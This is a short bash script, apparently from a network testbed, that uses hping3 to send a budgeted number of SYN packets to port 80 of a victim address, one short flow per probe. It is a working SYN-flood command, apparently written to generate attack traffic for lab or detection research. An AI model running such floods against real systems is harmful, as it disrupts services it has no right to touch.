#!/usr/bin/env bash
# SYN flood (hping3): TB_PACKETS SYNs to the web port, each from the next source port, spread over the
# budget. The victim answers SYN-ACK, the attacker's kernel resets: one short flow per probe.
# shellcheck source=../lib/common.sh
. "$TB_LIB/common.sh"
tb_run "$TB_NS" hping3 --syn --quiet -p 80 -w 64 -c "$TB_PACKETS" -i "u$(tb_interval_us "$TB_PACKETS")" "$TB_VICTIM"
